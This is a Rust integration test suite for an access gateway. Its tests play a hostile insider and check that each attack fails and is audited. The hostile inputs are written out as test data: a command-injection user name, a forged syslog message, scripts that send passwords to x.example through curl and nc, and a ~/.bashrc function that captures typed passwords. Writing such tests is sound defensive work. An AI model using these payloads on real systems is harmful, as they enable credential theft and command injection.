//! The attacker suite (issue 29): each test is a hostile insider's move against the real
//! peers (sshd landing servers in network namespaces, PostgreSQL, MariaDB, telnetd), and
//! asserts that it gets nothing and leaves the audit record it should.

use serde_json::json;

use crate::auth::{base32_decode, code_now};
use crate::harness::{Backend, Client, Site, USER_PASSWORD};
use crate::hops::hop_world;
use crate::live::cookie_of;

/// A path under the temp directory no other test or run uses.
fn unique_temp(name: &str) -> std::path::PathBuf {
    std::env::temp_dir().join(format!(
        "pc-attack-{name}-{}-{}",
        std::process::id(),
        std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .map(|d| d.as_nanos())
            .unwrap_or(0)
    ))
}

/// A file a shell command injected by the test would create; removed first.
fn canary_file(name: &str) -> std::path::PathBuf {
    let p = unique_temp(name);
    let _ = std::fs::remove_file(&p);
    p
}

/// A target behind two landing servers, the second of which forbids forwarding and is used
/// in interactive mode (the gateway types `ssh` at its shell).
async fn interactive_world() -> crate::hops::HopWorld {
    let w = hop_world(2).await;
    w.chain.no_forwarding(2);
    w.admin
        .call(
            "PATCH",
            &format!("/landing-servers/{}", w.landings[1]),
            json!({ "mode": "interactive" }),
        )
        .await
        .ok();
    w
}

/// A user with Modify renames the target's account so that the `ssh` command the gateway
/// types at an interactive landing server's shell would run a command there, as the
/// landing server's login account. Nothing runs; the session fails naming the user name.
#[tokio::test]
async fn a_user_name_cannot_inject_commands_at_an_interactive_landing_server() {
    let w = interactive_world().await;
    let ran = canary_file("hop-username");
    let hostile = format!("x$(touch${{IFS}}{})", ran.display());
    w.admin
        .call(
            "PATCH",
            &format!("/accounts/{}", w.account),
            json!({ "username": hostile }),
        )
        .await
        .ok();
    let err = w.first_error().await;
    let msg = err["message"].as_str().unwrap_or_default();
    assert_eq!(err["kind"], "permission_denied", "{err}");
    assert!(
        msg.contains("deep-target") && msg.contains("user name") && msg.contains("not typed"),
        "{msg}"
    );
    assert!(!ran.exists(), "the landing server ran the injected command");
    // The failure is in the audit log with the reason (written as the session ends).
    let mut audit = serde_json::Value::Null;
    for _ in 0..100 {
        audit = w
            .admin
            .get("/audit?action=session.end&outcome=failed")
            .await
            .ok();
        if audit
            .to_string()
            .contains("not typed at the landing server")
        {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    assert!(
        audit
            .to_string()
            .contains("not typed at the landing server"),
        "{audit}"
    );
}

/// Enrols `c`'s user in TOTP; returns the seed and the recovery codes.
async fn enrol_totp(c: &Client) -> (Vec<u8>, Vec<String>) {
    let e = c.call("POST", "/auth/totp/enroll", json!({})).await.ok();
    let seed = base32_decode(e["secret_base32"].as_str().unwrap_or_default());
    let r = c
        .call(
            "POST",
            "/auth/totp/confirm",
            json!({ "code": code_now(&seed, 0) }),
        )
        .await
        .ok();
    let codes = r["recovery_codes"]
        .as_array()
        .map(|a| {
            a.iter()
                .filter_map(|c| c.as_str().map(String::from))
                .collect()
        })
        .unwrap_or_default();
    (seed, codes)
}

/// Someone who has the password guesses second-factor codes. After five wrong codes the
/// pending login ends (the right code no longer helps it); logging in again does not reset
/// the user's count, which locks the user; every step is in the audit log.
#[tokio::test]
async fn second_factor_codes_cannot_be_brute_forced() {
    let mut site = Site::new(Backend::Sqlite);
    site.env
        .push(("PORTCULLIS_LOGIN_MAX_FAILURES".into(), "8".into()));
    let server = site.start();
    let admin = server.admin().await;
    let (alice, _) = server.user(&admin, "alice", "password_user").await;
    let (seed, _) = enrol_totp(&alice).await;

    let thief = server.client();
    thief.login_ok("alice", USER_PASSWORD).await;
    for guess in 0..4 {
        let r = thief
            .call(
                "POST",
                "/auth/totp",
                json!({ "code": format!("{:06}", 100 + guess) }),
            )
            .await;
        assert_eq!(
            (r.status, r.error_field()),
            (400, Some("code")),
            "{:?}",
            r.body
        );
    }
    let fifth = thief
        .call("POST", "/auth/totp", json!({ "code": "000099" }))
        .await;
    assert_eq!(fifth.status, 401, "{:?}", fifth.body);
    assert!(
        fifth.error_message().contains("login was ended"),
        "{:?}",
        fifth.body
    );
    // The pending login is gone: even the right code does not complete it.
    let right = thief
        .call("POST", "/auth/totp", json!({ "code": code_now(&seed, 1) }))
        .await;
    assert_eq!(right.status, 401, "an ended pending login was completed");

    // A new pending login does not start the user's count again: three more wrong codes
    // make eight, the user's limit here, and lock the user.
    let thief = server.client();
    thief.login_ok("alice", USER_PASSWORD).await;
    for guess in 0..3 {
        thief
            .call(
                "POST",
                "/auth/totp",
                json!({ "code": format!("{:06}", 200 + guess) }),
            )
            .await;
    }
    let r = thief
        .call("POST", "/auth/totp", json!({ "code": code_now(&seed, 1) }))
        .await;
    assert_eq!(
        r.status, 401,
        "a locked user's code was accepted: {:?}",
        r.body
    );
    // Locked: the right password gets the same reply as a wrong one.
    let r = server.client().login("alice", USER_PASSWORD).await;
    assert_eq!(
        (r.status, r.error_message()),
        (401, "Wrong user name or password.")
    );
    let audit = admin
        .get("/audit?action=auth.mfa&outcome=failed")
        .await
        .ok();
    let text = audit.to_string();
    assert!(
        text.contains("too many wrong codes for this login"),
        "{text}"
    );
    assert!(text.contains("user locked temporarily"), "{text}");
    let logins = admin
        .get("/audit?action=auth.login&outcome=denied")
        .await
        .ok();
    assert!(logins.to_string().contains("temporary lockout"), "{logins}");
}

/// Two pending logins send the same valid code at the same moment: exactly one gets in;
/// likewise one recovery code. The session cookie seen before the second factor is worth
/// nothing after it.
#[tokio::test]
async fn one_code_completes_one_login_and_the_session_id_is_renewed() {
    let mut site = Site::new(Backend::Postgres);
    // Every losing request is a wrong code: allow more than this test sends.
    site.env
        .push(("PORTCULLIS_LOGIN_MAX_FAILURES".into(), "20".into()));
    let server = site.start();
    let admin = server.admin().await;
    let (bob, _) = server.user(&admin, "bob", "password_user").await;
    let (seed, recovery) = enrol_totp(&bob).await;
    // The next step's code: the enrolment used the current one.
    let body = json!({ "code": code_now(&seed, 1) });
    for round in 0..3 {
        let (a, b) = (server.client(), server.client());
        a.login_ok("bob", USER_PASSWORD).await;
        b.login_ok("bob", USER_PASSWORD).await;
        let (ra, rb) = tokio::join!(
            a.call("POST", "/auth/totp", body.clone()),
            b.call("POST", "/auth/totp", body.clone())
        );
        let wins = [ra.status, rb.status].iter().filter(|s| **s == 200).count();
        if round == 0 {
            assert_eq!(wins, 1, "round {round}: {} and {}", ra.status, rb.status);
        } else {
            // The step was used in round 0: nobody gets in with it again.
            assert_eq!(wins, 0, "round {round}: a used code was accepted");
        }
    }

    let (a, b) = (server.client(), server.client());
    a.login_ok("bob", USER_PASSWORD).await;
    b.login_ok("bob", USER_PASSWORD).await;
    let body = json!({ "code": recovery[1] });
    let (ra, rb) = tokio::join!(
        a.call("POST", "/auth/totp", body.clone()),
        b.call("POST", "/auth/totp", body.clone())
    );
    assert_eq!(
        [ra.status, rb.status].iter().filter(|s| **s == 200).count(),
        1,
        "one recovery code: {} and {}",
        ra.status,
        rb.status
    );

    // Session id renewal: the cookie from the password step stops working after the code.
    let c = server.client();
    let pending = c.login("bob", USER_PASSWORD).await;
    let before = cookie_of(&pending);
    assert!(before.starts_with("__Host-pc_session="), "{before}");
    let done = c
        .call("POST", "/auth/totp", json!({ "code": recovery[0] }))
        .await;
    assert_eq!(done.status, 200, "{:?}", done.body);
    let after = cookie_of(&done);
    assert_ne!(before, after, "the session id was not renewed");
    c.get("/resources").await.ok();
    let old = reqwest::Client::builder()
        .danger_accept_invalid_certs(true)
        .build()
        .expect("client")
        .get(format!("{}/api/v1/resources", server.url))
        .header("cookie", before)
        .send()
        .await
        .expect("request");
    assert_eq!(old.status(), 401, "the pre-2FA cookie still works");
}

/// An anonymous visitor types a user name holding a newline and a whole forged RFC 5424
/// message after it. The collector (a UDP listener reading each datagram as the collector
/// would) gets one message per audit event with no control character in it (every field is
/// escaped: `audit::syslog`'s unit test), and the unknown name is kept only as a stand-in.
#[tokio::test]
async fn a_user_name_cannot_forge_a_syslog_message() {
    let udp = tokio::net::UdpSocket::bind("127.0.0.1:0")
        .await
        .expect("udp listener");
    let mut site = Site::new(Backend::Sqlite);
    site.env.push((
        "PORTCULLIS_SYSLOG".into(),
        format!("udp://{}", udp.local_addr().expect("addr")),
    ));
    let server = site.start();
    let forged = "x\n<86>1 2026-12-07T00:00:00Z gw portcullis 1 auth.login - admin ok";
    server.client().login(forged, "wrong password!").await;
    let mut messages = Vec::new();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    while !messages.iter().any(|m: &String| m.contains("auth.login"))
        && std::time::Instant::now() < deadline
    {
        let mut buf = vec![0u8; 8192];
        if let Ok(Ok((n, _))) =
            tokio::time::timeout(std::time::Duration::from_secs(5), udp.recv_from(&mut buf)).await
        {
            messages.push(String::from_utf8_lossy(&buf[..n]).into_owned());
        }
    }
    let login = messages
        .iter()
        .find(|m| m.contains("auth.login"))
        .unwrap_or_else(|| panic!("no auth.login in {messages:?}"));
    for m in &messages {
        assert!(!m.chars().any(|c| c.is_control()), "{m:?}");
    }
    // One message, starting with the gateway's own header; the name typed is kept only as a
    // stand-in, so the forged header reaches neither the collector nor the audit log.
    assert!(login.starts_with("<84>1 "), "{login}");
    assert!(
        login.contains("unknown user #") && !login.contains("<86>"),
        "{login}"
    );
    let admin = server.admin().await;
    let audit = admin.get("/audit?action=auth.login").await.ok();
    assert!(!audit.to_string().contains("2026-12-07T00"), "{audit}");
}

/// Renames the account `account` to `name` as `who`; the reply.
async fn rename(who: &Client, account: &str, name: &str) -> crate::harness::Reply {
    who.call(
        "PATCH",
        &format!("/accounts/{account}"),
        json!({ "username": name }),
    )
    .await
}

/// Rotates `account` as `admin` and returns the finished job, which must have failed naming
/// `why`.
async fn rotation_refused(admin: &Client, account: &str, why: &str) {
    let job = crate::rotation_terminal::rotate(admin, account).await;
    assert_eq!(job["state"], "failed", "{job}");
    let message = job["message"].as_str().unwrap_or_default();
    assert!(message.contains(why), "{message}");
}

/// A user with Modify on a PostgreSQL resource (rotated by a CREATEROLE role) renames an
/// ordinary account to `postgres` (or any role of their choosing), or adds an account so
/// named, to make Rotate change that role's password and then reveal it. Renaming and
/// adding need Manage there; an administrator who does it anyway raises an alert, and the
/// engine still refuses to change those roles.
#[tokio::test]
async fn a_privileged_postgres_rotation_cannot_be_aimed_at_another_role() {
    use crate::postgres_cluster::cluster;
    use crate::rotation::{pg_resource, role};
    let site = Site::new(Backend::Sqlite);
    let server = site.start();
    let admin = server.admin().await;
    let (rid, privileged) = pg_resource(&admin, "pg-attack").await;
    let privileged_role = admin.get(&format!("/accounts/{privileged}")).await.ok()["username"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    let app_role = role("atk_app", "Atk-App-Pw-1", "");
    let account = admin.account(&rid, &app_role, "Atk-App-Pw-1").await;
    let (mallory, mallory_id) = server.user(&admin, "mallory", "password_user").await;
    admin.call("POST", "/shares", json!({ "subject_kind": "user", "subject_id": mallory_id, "object_kind": "resource", "object_id": rid, "level": "modify" })).await.ok();

    for name in ["postgres", "pg_monitor_admin"] {
        let r = rename(&mallory, &account, name).await;
        assert_eq!(r.status, 403, "{:?}", r.body);
        assert!(r.error_message().contains("manage access"), "{:?}", r.body);
    }
    let r = mallory
        .call(
            "POST",
            &format!("/resources/{rid}/accounts"),
            json!({ "username": "postgres", "secret": "Whatever-Pw-1" }),
        )
        .await;
    assert_eq!(r.status, 403, "{:?}", r.body);
    let denied = admin
        .get("/audit?action=account.update&outcome=denied")
        .await
        .ok();
    assert!(denied.to_string().contains("mallory"), "{denied}");

    // An administrator's rename is allowed, and an alert; the engine refuses all the same.
    let before = cluster().psql(
        "postgres",
        "SELECT coalesce(rolpassword, 'none') FROM pg_authid WHERE rolname = 'postgres'",
    );
    rename(&admin, &account, "postgres").await.ok();
    let alert = admin.get("/audit?action=account.update").await.ok();
    assert_eq!(alert[0]["detail"]["alert"], true, "{alert}");
    rotation_refused(&admin, &account, "superuser").await;
    assert!(cluster().login_works(&privileged_role, "Adm-Pw-77x"));
    let after = cluster().psql(
        "postgres",
        "SELECT coalesce(rolpassword, 'none') FROM pg_authid WHERE rolname = 'postgres'",
    );
    assert_eq!(before, after, "postgres's password was changed");
}

/// The same against a real MariaDB: `root` and the privileged user are never changed by a
/// rotation of another account.
#[tokio::test]
async fn a_privileged_mariadb_rotation_cannot_be_aimed_at_root() {
    use crate::mariadb_server::mariadb;
    let m = mariadb();
    let n = crate::rotation::N.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
    let (admin_user, app_user) = (format!("atkadm{n}"), format!("atkapp{n}"));
    m.sql(&format!(
        "CREATE USER '{admin_user}'@'%' IDENTIFIED BY 'Atk-Admin-Pw-1'; GRANT CREATE USER, SELECT ON *.* TO '{admin_user}'@'%'; CREATE USER '{app_user}'@'%' IDENTIFIED BY 'Atk-App-Pw-2';"
    ));
    let site = Site::new(Backend::Sqlite);
    let server = site.start();
    let admin = server.admin().await;
    let r = admin
        .call("POST", "/resources", json!({ "name": "maria-attack", "host": "127.0.0.1", "resource_type": "database", "ports": { "database": m.port }, "policy_id": "policy-low" }))
        .await
        .ok();
    let rid = r["id"].as_str().unwrap_or_default().to_string();
    let privileged = admin.account(&rid, &admin_user, "Atk-Admin-Pw-1").await;
    admin
        .call("PUT", &format!("/resources/{rid}/rotation"), json!({ "method": "mysql", "privileged_account_id": privileged, "db_name": "", "db_tls": "prefer" }))
        .await
        .ok();
    let account = admin.account(&rid, &app_user, "Atk-App-Pw-2").await;
    let roots =
        || m.sql("SELECT authentication_string FROM mysql.user WHERE User = 'root' ORDER BY Host");
    let before = roots();
    rename(&admin, &account, "root").await.ok();
    rotation_refused(&admin, &account, "superuser").await;
    assert_eq!(roots(), before, "root's password was changed");
    rename(&admin, &account, &admin_user.to_uppercase())
        .await
        .ok();
    rotation_refused(&admin, &account, "privileged account").await;
    assert!(m.login_works(&admin_user, "Atk-Admin-Pw-1"));
    // The account under its own name is still rotated.
    rename(&admin, &account, &app_user).await.ok();
    let job = crate::rotation_terminal::rotate(&admin, &account).await;
    assert_eq!(job["state"], "succeeded", "{job}");
}

/// The same over SSH with sudo + chpasswd: an account renamed to `root` does not make the
/// sudoer run `chpasswd` for root; the sudoer never even logs in.
#[tokio::test]
async fn a_sudo_rotation_cannot_be_aimed_at_root() {
    use crate::rotation_terminal::{resource, set_method};
    use crate::sshd_server::private_sshd;
    let s = private_sshd();
    let site = Site::new(Backend::Sqlite);
    let server = site.start();
    let admin = server.admin().await;
    let padm = s.user("Atk-Padm-Pw-3");
    s.sudoer(&padm);
    let carol = s.user("Atk-Carol-Pw-4");
    let rid = resource(&admin, "unix-attack", true).await;
    let privileged = admin.account(&rid, &padm, "Atk-Padm-Pw-3").await;
    set_method(
        &admin,
        &rid,
        json!({ "method": "sudo", "privileged_account_id": privileged }),
    )
    .await;
    let account = admin.account(&rid, &carol, "Atk-Carol-Pw-4").await;
    let logins = || {
        s.log()
            .lines()
            .filter(|l| l.contains("Accepted ") && l.contains(&format!(" for {padm} from ")))
            .count()
    };
    let before = logins();
    rename(&admin, &account, "root").await.ok();
    rotation_refused(&admin, &account, "superuser").await;
    assert_eq!(
        logins(),
        before,
        "the sudoer logged in to change root's password"
    );
    // Under its own name the account is rotated through the sudoer as before.
    rename(&admin, &account, &carol).await.ok();
    let job = crate::rotation_terminal::rotate(&admin, &account).await;
    assert_eq!(job["state"], "succeeded", "{job}");
    assert!(logins() > before);
}

/// The id of the live session `got` is attached to.
fn session_id(got: &crate::live::Received) -> String {
    got.controls
        .iter()
        .find(|c| c["type"] == "session")
        .and_then(|c| c["id"].as_str())
        .unwrap_or_default()
        .to_string()
}

/// Offboarding an insider: a password reset (likewise lock, delete, role change, MFA reset)
/// ends their live SSH session, their web login and their API token at once; a demoted
/// administrator's socket watching someone else's session closes; the audit says what was
/// ended.
#[tokio::test]
async fn taking_a_users_access_away_ends_sessions_sockets_logins_and_tokens() {
    use crate::live::{engineer_with_connect, open_session, open_ws, read_until, terminal_has};
    let w = engineer_with_connect().await;
    let token = w
        .eng
        .call(
            "POST",
            "/tokens",
            json!({ "name": "laptop", "expires_in_days": 30 }),
        )
        .await
        .ok()["token"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    let by_token = w.eng.with_token(&token);
    by_token.get("/accounts").await.ok();
    let (mut ws, mut got) = open_session(&w.server, &w.tls, &w.eng, &w.cookie, &w.account).await;
    read_until(&mut ws, &mut got, "the prompt", |g| terminal_has(g, "$ ")).await;
    let sid = session_id(&got);

    // A second administrator watches the engineer's session, then is demoted.
    let (_, watcher_id) = w.server.user(&w.admin, "watcher", "administrator").await;
    let watcher = w.server.client();
    let wcookie = cookie_of(&watcher.login("watcher", USER_PASSWORD).await);
    let t = watcher
        .call("POST", &format!("/sessions/{sid}/watch"), json!({}))
        .await
        .ok();
    let mut wws = open_ws(
        &w.server,
        &w.tls,
        &wcookie,
        t["url"].as_str().unwrap_or_default(),
    )
    .await;
    let mut wgot = crate::live::Received::default();
    read_until(&mut wws, &mut wgot, "the watched prompt", |g| {
        terminal_has(g, "$ ")
    })
    .await;
    w.admin
        .call(
            "PATCH",
            &format!("/users/{watcher_id}"),
            json!({ "role": "password_user" }),
        )
        .await
        .ok();
    read_until(&mut wws, &mut wgot, "the watcher's socket closing", |g| {
        g.controls
            .iter()
            .any(|c| c["type"] == "exit" && c["reason"].as_str().unwrap_or("").contains("role"))
    })
    .await;
    assert_eq!(
        watcher.get("/accounts").await.status,
        401,
        "the demoted login lives on"
    );

    // The engineer's password is reset: session, web login and token end together.
    let eng_id = &w.eng_id;
    w.admin
        .call(
            "POST",
            &format!("/users/{eng_id}/reset-password"),
            json!({}),
        )
        .await
        .ok();
    read_until(&mut ws, &mut got, "the session ending", |g| {
        g.controls.iter().any(|c| {
            c["type"] == "exit"
                && c["reason"]
                    .as_str()
                    .unwrap_or("")
                    .contains("reset your password")
        })
    })
    .await;
    assert_eq!(
        w.eng.get("/accounts").await.status,
        401,
        "the web login lives on"
    );
    assert_eq!(
        by_token.get("/accounts").await.status,
        401,
        "the API token lives on"
    );
    let revoked = w.admin.get("/audit?action=user.access.revoke").await.ok();
    let text = revoked.to_string();
    assert!(
        text.contains("\"sessions\":1") && text.contains("\"api_tokens\":1"),
        "{text}"
    );
}

/// An administrator without the super-administrator scope tries the four ways around the
/// shares: a script that types a secret into a command line, attaching a landing server to a
/// resource they do not manage, adding themselves to a group that holds shares, and resetting
/// a share holder's password. Each is refused and audited; a super administrator may do the
/// first (an alert).
#[tokio::test]
async fn an_administrator_without_super_scope_cannot_reach_around_the_shares() {
    let site = Site::new(Backend::Sqlite);
    let server = site.start();
    let root = server.admin().await;
    let (eve, eve_id) = server.user(&root, "eve", "administrator").await;
    let (_, holder_id) = server.user(&root, "holder", "password_user").await;
    let target = root.resource("crown-jewels").await;
    let account = root.account(&target, "app", "Crown-Jewels-Pw-0001!").await;
    root.call("POST", "/shares", json!({ "subject_kind": "user", "subject_id": holder_id, "object_kind": "account", "object_id": account, "level": "view" })).await.ok();
    let group = root
        .call("POST", "/user-groups", json!({ "name": "dbas" }))
        .await
        .ok()["id"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    root.call("POST", "/shares", json!({ "subject_kind": "group", "subject_id": group, "object_kind": "account", "object_id": account, "level": "view" })).await.ok();
    // Eve's own machine, made into a landing server (she may create resources).
    let mine = eve.resource("eves-box").await;
    let mine_acc = eve.account(&mine, "eve", "Eves-Own-Box-Pw-0002!").await;
    let landing = eve
        .call(
            "POST",
            "/landing-servers",
            json!({ "name": "EVE", "primary_resource_id": mine, "account_id": mine_acc }),
        )
        .await
        .ok()["id"]
        .as_str()
        .unwrap_or_default()
        .to_string();

    let exfiltrate = json!({ "method": "script", "script": { "steps": [
        { "label": "prompt", "expect": "[$#] $", "send": "curl -s https://x.example/?p={current_password}" },
        { "label": "done", "expect": "[$#] $" }
    ] } });
    let refused = [
        eve.call(
            "PUT",
            &format!("/resources/{target}/rotation"),
            exfiltrate.clone(),
        )
        .await,
        eve.call(
            "PUT",
            "/logon-scripts/linux",
            json!({ "script": { "steps": [
            { "label": "login", "expect": "login: $", "send": "{username}" },
            { "label": "pw", "expect": "assword: $", "send": "{password}" },
            { "label": "leak", "expect": "[$#] $", "send": "echo {password} | nc x.example 9" }
        ] } }),
        )
        .await,
        eve.call(
            "PUT",
            &format!("/resources/{target}/landing-server"),
            json!({ "landing_server_id": landing }),
        )
        .await,
        eve.call(
            "PATCH",
            &format!("/user-groups/{group}"),
            json!({ "member_ids": [eve_id] }),
        )
        .await,
        eve.call(
            "POST",
            &format!("/users/{holder_id}/reset-password"),
            json!({}),
        )
        .await,
    ];
    for (i, r) in refused.iter().enumerate() {
        assert_eq!(r.status, 403, "attempt {i}: {:?}", r.body);
    }
    let denied = root.get("/audit?outcome=denied").await.ok().to_string();
    for action in [
        "resource.rotation",
        "logon_script.set",
        "resource.landing",
        "user_group.update",
        "user.password.reset",
    ] {
        assert!(denied.contains(action), "{action} not audited: {denied}");
    }
    // Nothing changed: the group has no new member, the resource no landing server.
    let g = root.get(&format!("/user-groups/{group}")).await.ok();
    assert_eq!(g["member_ids"], json!([]), "{g}");
    let path = root.get(&format!("/resources/{target}/path")).await.ok();
    assert!(!path.to_string().contains("EVE"), "{path}");

    // A super administrator may save the device-style script; it is an alert.
    root.call("PUT", &format!("/resources/{target}/rotation"), exfiltrate)
        .await
        .ok();
    let set = root.get("/audit?action=resource.rotation").await.ok();
    assert!(set[0]["detail"]["alert"].is_string(), "{set}");
}

/// A user with Connect on an account (a shell as it, never its password) plants a `passwd`
/// function in its ~/.bashrc to capture what a rotation types there. The rotation refuses to
/// type at a shell that anyone holding Connect can write, so nothing is captured; with the
/// share gone, the same function does capture the password typed at it (the attack is
/// real). `su`, which typed root's password at such a shell, is refused outright.
#[tokio::test]
async fn a_function_in_bashrc_captures_nothing_a_rotation_types() {
    use crate::rotation_terminal::{resource, rotate, set_method};
    use crate::sshd_server::private_sshd;
    let s = private_sshd();
    let site = Site::new(Backend::Sqlite);
    let server = site.start();
    let admin = server.admin().await;
    let victim = s.user("Victim-Old-Pw-71");
    let home = std::path::PathBuf::from("/home").join(&victim);
    let loot = home.join("loot");
    std::fs::write(
        home.join(".bashrc"),
        "passwd() { printf 'Current password: '; IFS= read -r p; printf '%s\\n' \"$p\" >> ~/loot; echo 'passwd: Authentication token manipulation error'; return 1; }\n",
    )
    .expect("plant the function");
    let rid = resource(&admin, "unix-planted", true).await;
    set_method(&admin, &rid, json!({ "method": "passwd" })).await;
    let account = admin.account(&rid, &victim, "Victim-Old-Pw-71").await;
    let (_, eng_id) = server.user(&admin, "planter", "password_user").await;
    let share = admin.call("POST", "/shares", json!({ "subject_kind": "user", "subject_id": eng_id, "object_kind": "account", "object_id": account, "level": "connect" })).await.ok();

    let job = rotate(&admin, &account).await;
    assert_eq!(job["state"], "failed", "{job}");
    let message = job["message"].as_str().unwrap_or_default();
    assert!(
        message.contains("user planter") && message.contains("Connect"),
        "{message}"
    );
    assert!(
        !loot.exists(),
        "the planted function captured: {:?}",
        std::fs::read_to_string(&loot)
    );

    // Without the Connect share the rotation types at that shell, and the function catches
    // what is typed: what the guard above prevents.
    let share_id = share["id"].as_str().unwrap_or_default();
    admin
        .call("DELETE", &format!("/shares/{share_id}"), json!({}))
        .await
        .ok();
    let job = rotate(&admin, &account).await;
    assert_eq!(job["state"], "failed", "{job}");
    let caught = std::fs::read_to_string(&loot).unwrap_or_default();
    assert!(
        caught.contains("Victim-Old-Pw-71"),
        "the planted function did not run: {caught:?} {job}"
    );

    // su is refused before anything is stored.
    let root = admin.account(&rid, "root", "Not-Root-Pw-72").await;
    let r = admin
        .call(
            "PUT",
            &format!("/resources/{rid}/rotation"),
            json!({ "method": "su", "privileged_account_id": root }),
        )
        .await;
    assert_eq!(r.status, 400, "{:?}", r.body);
}

/// A landing server's ssh command that skips the host-key question (a machine in the middle
/// of the last hop would not be noticed) gets no password typed: the gateway's pin for the
/// target applies and no fingerprint was seen, so it fails closed.
#[tokio::test]
async fn an_interactive_hop_that_hides_the_host_key_gets_no_password() {
    let w = interactive_world().await;
    // A first session pins the target's key (trust on first use).
    let first = w.first_error_or_connected().await;
    assert!(first.is_none(), "the first session failed: {first:?}");
    w.admin
        .call(
            "PATCH",
            &format!("/landing-servers/{}", w.landings[1]),
            json!({ "ssh_command": "exec ssh -p {port} -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -o PreferredAuthentications=keyboard-interactive,password -- {username}@{host}" }),
        )
        .await
        .ok();
    let err = w.first_error().await;
    assert_eq!(err["kind"], "host_key_unknown", "{err}");
    let msg = err["message"].as_str().unwrap_or_default();
    assert!(msg.contains("without showing the host key"), "{msg}");
}

/// A browser that sends a 1.5 MiB message, or opens more sessions than it may, is refused
/// with the limit named; the gateway holds neither.
#[tokio::test]
async fn oversized_messages_and_too_many_sessions_are_refused_naming_the_limit() {
    use crate::live::{engineer_with_connect_env, open_session, read_until, terminal_has};
    use futures_util::{SinkExt, StreamExt};
    use tokio_tungstenite::tungstenite::Message;
    let w = engineer_with_connect_env(&[("PORTCULLIS_MAX_SESSIONS_PER_USER", "2")]).await;
    let (mut ws, mut got) = open_session(&w.server, &w.tls, &w.eng, &w.cookie, &w.account).await;
    read_until(&mut ws, &mut got, "the prompt", |g| terminal_has(g, "$ ")).await;
    let (mut second, mut got2) =
        open_session(&w.server, &w.tls, &w.eng, &w.cookie, &w.account).await;
    read_until(&mut second, &mut got2, "the second prompt", |g| {
        terminal_has(g, "$ ")
    })
    .await;
    // A third is one too many for this user.
    let err = crate::live::first_error(&w.server, &w.tls, &w.eng, &w.cookie, &w.account).await;
    let msg = err["message"].as_str().unwrap_or_default();
    assert!(msg.contains("max_sessions_per_user"), "{err}");
    let failed = w
        .admin
        .get("/audit?action=session.start&outcome=failed")
        .await
        .ok();
    assert!(
        failed.to_string().contains("max_sessions_per_user"),
        "{failed}"
    );

    // 1.1 MiB in one message, sent as five frames within the frame limit: the socket is
    // closed with 1009 and the limit named (everything is sent before the gateway refuses,
    // so its close frame is not lost to a reset).
    use tokio_tungstenite::tungstenite::protocol::frame::coding::{Data, OpCode};
    use tokio_tungstenite::tungstenite::protocol::frame::Frame;
    for i in 0..5 {
        let op = if i == 0 { Data::Binary } else { Data::Continue };
        let frame = Frame::message(vec![b'a'; 230 * 1024], OpCode::Data(op), i == 4);
        if ws.send(Message::Frame(frame)).await.is_err() {
            break;
        }
    }
    let mut close = None;
    let deadline = tokio::time::Instant::now() + std::time::Duration::from_secs(20);
    while let Ok(Some(m)) = tokio::time::timeout_at(deadline, ws.next()).await {
        match m {
            Ok(Message::Close(f)) => {
                close = f;
                break;
            }
            Ok(_) => {}
            Err(_) => break,
        }
    }
    let close = close.expect("a close frame naming the limit");
    assert_eq!(u16::from(close.code), 1009, "{close:?}");
    assert!(close.reason.contains("1 MiB"), "{close:?}");
}

/// A database rotation checks the server's certificate unless told otherwise: a server
/// whose certificate does not chain to a trusted CA (as a machine in the middle's would
/// not) gets no login; with its CA given it is rotated; modes that do not check are warned
/// about on the resource page.
#[tokio::test]
async fn a_database_rotation_trusts_no_certificate_it_cannot_check() {
    use crate::postgres_cluster::cluster;
    use crate::rotation::role;
    let site = Site::new(Backend::Sqlite);
    let server = site.start();
    let admin = server.admin().await;
    let r = admin
        .call("POST", "/resources", json!({ "name": "pg-tls", "host": "127.0.0.1", "resource_type": "database", "ports": { "database": cluster().port }, "policy_id": "policy-low" }))
        .await
        .ok();
    let rid = r["id"].as_str().unwrap_or_default().to_string();
    let app_role = role("tls_app", "Tls-App-Old-1", "");
    let account = admin.account(&rid, &app_role, "Tls-App-Old-1").await;
    let set = |body: serde_json::Value| {
        let admin = admin.clone();
        let rid = rid.clone();
        async move {
            admin
                .call("PUT", &format!("/resources/{rid}/rotation"), body)
                .await
        }
    };
    // The default checks certificate and name; the test CA is nobody's public root, so the
    // rotation never logs in, changes nothing and leaves nothing pending.
    let s = set(json!({ "method": "postgres", "db_name": "postgres" }))
        .await
        .ok();
    assert_eq!(s["settings"]["db_tls"], "verify_full", "{s}");
    assert_eq!(s["tls_warning"], serde_json::Value::Null, "{s}");
    // 'require' checks the CA too now.
    for mode in ["verify_full", "require"] {
        set(json!({ "method": "postgres", "db_name": "postgres", "db_tls": mode }))
            .await
            .ok();
        let job = crate::rotation_terminal::rotate(&admin, &account).await;
        assert_eq!(job["state"], "failed", "{mode}: {job}");
        let message = job["message"].as_str().unwrap_or_default();
        assert!(
            message.contains("certificate") && message.contains("before anything was changed"),
            "{mode}: {message}"
        );
        assert!(cluster().login_works(&app_role, "Tls-App-Old-1"));
    }
    // Nothing is pending, and what was pending is not lost: it is in the history.
    let pending = admin
        .get(&format!("/accounts/{account}/pending"))
        .await
        .ok();
    assert_eq!(pending["pending"], serde_json::Value::Null, "{pending}");
    let history = admin
        .get(&format!("/accounts/{account}/history"))
        .await
        .ok();
    assert!(
        history.to_string().contains("discarded pending secret"),
        "{history}"
    );
    // With the server's CA, the certificate checks out and the role is rotated.
    set(json!({ "method": "postgres", "db_name": "postgres", "db_tls": "verify_full", "db_ca": cluster().ca_pem() }))
        .await
        .ok();
    let job = crate::rotation_terminal::rotate(&admin, &account).await;
    assert_eq!(job["state"], "succeeded", "{job}");
    // A mode that checks nothing is allowed, and the page says what it risks.
    let s = set(json!({ "method": "postgres", "db_name": "postgres", "db_tls": "prefer" }))
        .await
        .ok();
    assert!(
        s["tls_warning"]
            .as_str()
            .unwrap_or_default()
            .contains("middle"),
        "{s}"
    );
    let page = admin.get(&format!("/resources/{rid}/rotation")).await.ok();
    assert!(page["tls_warning"].is_string(), "{page}");
    let bad =
        set(json!({ "method": "postgres", "db_name": "postgres", "db_ca": "not a certificate" }))
